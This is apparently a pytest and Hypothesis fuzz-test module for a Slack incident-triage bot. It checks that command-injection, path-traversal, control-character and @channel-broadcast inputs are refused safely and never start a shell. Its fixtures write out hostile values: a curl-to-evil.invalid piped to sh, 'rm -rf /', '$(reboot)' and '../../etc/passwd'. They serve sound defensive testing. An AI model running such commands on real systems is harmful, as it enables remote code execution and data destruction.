"""Fuzzing `/triage <anything>`: the router answers every text with a clear refusal or a subcommand,
never an exception; refusals echo input safely; nothing malformed is stored; no shell is ever run."""

from __future__ import annotations

import subprocess
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar
from unittest import mock

import pytest
import sqlalchemy
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bot.evidence import targets
from handlers.slack import router as commands
from tests.hardening.conftest import FaultySlackApi, running_bot
from tests.support.slack import BotUnderTest, slash_body

SHELLISH = [
    ";",
    "|",
    "&&",
    "$(id)",
    "`id`",
    "../",
    "..",
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x1b[2J",
    ">",
    "<",
    "'",
    '"',
    "\\",
]
SLACK_MARKUP = ["<!channel>", "<!here>", "<@U0ADMIN>", "*bold*", "```", "<https://evil.invalid|click>"]
LOOK_ALIKES = ["\uff4a\uff4f\uff42", "j\u043eb", "\u212aube", "\u200bjob", "job\u00a0ml/x", "\u202ejob"]
_word = st.one_of(
    st.sampled_from(
        ["job", "status", "assign", "note", "list", "help", "JOB", "Job", "INC-0001", "resolved", "owner"]
    ),
    st.sampled_from(SHELLISH + SLACK_MARKUP + LOOK_ALIKES),
    st.from_regex(r"[a-z0-9][-a-z0-9]{0,12}/[a-z0-9][-a-z0-9.]{0,20}", fullmatch=True),
    st.text(max_size=12),
)
_command_text = st.one_of(
    st.lists(_word, max_size=8).map(" ".join),
    st.lists(_word, max_size=8).map("".join),
    st.text(max_size=300),
    st.sampled_from(["", " ", "job " + "a" * 10_240, "note " + "x" * 10_240, "job ml/" + "b" * 300]),
)


@pytest.fixture(scope="module")
def fuzz_bot(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BotUnderTest]:
    """One real bot for the whole module (Hypothesis runs many examples against it)."""
    path: Path = tmp_path_factory.mktemp("fuzz") / "fuzz.db"
    with FaultySlackApi() as slack, running_bot(database_url=f"sqlite:///{path}", slack=slack) as bot:
        yield bot


def _assert_safe_refusal(message: str) -> None:
    assert message.strip()
    assert len(message) <= 3000  # fits one Slack section; the ack is shown as is
    assert "Traceback" not in message
    controls = [ch for ch in message if unicodedata.category(ch) == "Cc"]
    assert controls == [], f"control characters echoed: {controls!r}"
    assert "<!" not in message, "a broadcast mention (@channel, @here) echoed back"


@settings(
    max_examples=1000, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(text=_command_text)
@example(text="")
@example(text="<!channel> now")
@example(text="job\tml/x")
@example(text="\x1b[31mjob")
@example(text="assign \x1b[2J owner")
@example(text="assign <!channel> commander")
@example(text="job ml/x; rm -rf /")
@example(text="status INC-0001 `resolved`")
def test_every_text_is_routed_or_refused_clearly_and_never_raises(fuzz_bot: BotUnderTest, text: str) -> None:
    subcommand, rest, error = commands.route(subcommands=fuzz_bot.services.subcommands, text=text)
    assert (subcommand is None) != (error is None)
    if error is not None:
        _assert_safe_refusal(error)
        return
    assert subcommand is not None and subcommand.name in fuzz_bot.services.subcommands
    assert rest == rest.strip()
    if subcommand.name == "job":
        targets.parse_target(rest)  # routed only when the id is valid


@settings(max_examples=400, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_every_registered_check_refuses_with_a_usage_error_only(fuzz_bot: BotUnderTest, data: Any) -> None:
    checked = sorted(name for name, item in fuzz_bot.services.subcommands.items() if item.check is not None)
    name = data.draw(st.sampled_from(checked))
    rest = data.draw(_command_text)
    try:
        fuzz_bot.services.subcommands[name].check(rest)  # type: ignore[misc]
    except commands.UsageError as error:
        _assert_safe_refusal(commands.defang(str(error)))  # what route and every reply send


def _incident_targets(bot: BotUnderTest) -> list[str]:
    with bot.services.incidents.engine.connect() as connection:
        return list(connection.execute(sqlalchemy.text("SELECT target FROM incident")).scalars())


class _NoShellPopen(subprocess.Popen):  # type: ignore[type-arg]
    """Popen that refuses shell=True, so the fuzz proves no path runs a shell."""

    launched_with_shell: ClassVar[list[Any]] = []

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        if kwargs.get("shell"):
            self.launched_with_shell.append(args[0] if args else kwargs.get("args"))
            raise AssertionError("a shell was started")
        super().__init__(*args, **kwargs)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(text=_command_text)
@example(text="job ../../etc/passwd")
@example(text="job ml/train;curl evil.invalid|sh")
@example(text="job $(reboot)/x")
@example(text="job ｍｌ/train")
@example(text="note " + "x" * 10_240)
def test_hostile_commands_over_http_are_acked_cleanly_and_store_nothing_malformed(
    fuzz_bot: BotUnderTest, text: str
) -> None:
    before = _incident_targets(fuzz_bot)
    with mock.patch.object(subprocess, "Popen", _NoShellPopen):
        response = fuzz_bot.post(slash_body(text=text))
        assert fuzz_bot.services.work.wait_idle(timeout=30)
    assert response.status_code == 200
    assert "Traceback" not in response.text
    after = _incident_targets(fuzz_bot)
    for target in after:
        assert targets.parse_target(target).key == target  # only grammar-clean ids are ever stored
    if len(after) > len(before):
        name, _, rest = text.strip().partition(" ")
        assert name.lower() == "job" and targets.parse_target(rest.strip()).key in after
    assert _NoShellPopen.launched_with_shell == []
    for call in fuzz_bot.slack.calls:
        posted = str(call.params.get("text", "")).lower()
        assert "traceback" not in posted
        assert not any(mention in posted for mention in ("<!channel", "<!here", "<!everyone")), posted


@pytest.mark.parametrize("broadcast", ["<!channel>", "<!here>", "<!everyone>", "<!subteam^S0ONCALL|@oncall>"])
def test_a_note_cannot_make_the_bot_ping_the_whole_channel(fuzz_bot: BotUnderTest, broadcast: str) -> None:
    channel = f"C0NOTE{abs(hash(broadcast)) % 10_000:04d}"
    fuzz_bot.post(slash_body(text=f"job ml/notes-{channel.lower()}", channel_id=channel))
    assert fuzz_bot.services.work.wait_idle(timeout=30)
    fuzz_bot.slack.clear()
    fuzz_bot.post(slash_body(text=f"note {broadcast} the fabric is down", channel_id=channel))
    assert fuzz_bot.services.work.wait_idle(timeout=30)
    (posted,) = fuzz_bot.slack.calls_to("chat.postMessage")
    assert "the fabric is down" in posted.params["text"]
    assert "<!" not in posted.params["text"]
